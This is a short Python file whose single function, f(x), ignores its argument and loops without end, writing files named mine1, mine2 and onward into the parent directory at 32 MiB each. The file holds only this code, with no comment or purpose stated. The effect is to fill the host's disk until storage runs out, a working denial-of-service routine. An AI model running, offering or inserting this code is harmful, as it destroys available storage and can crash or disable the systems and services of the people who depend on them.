import os


def f(x):
    n = 0
    while True:
        n += 1
        with open(os.path.join('..', f'mine{n}'), 'wb') as file:
            file.write(b'x' * (32 << 20))
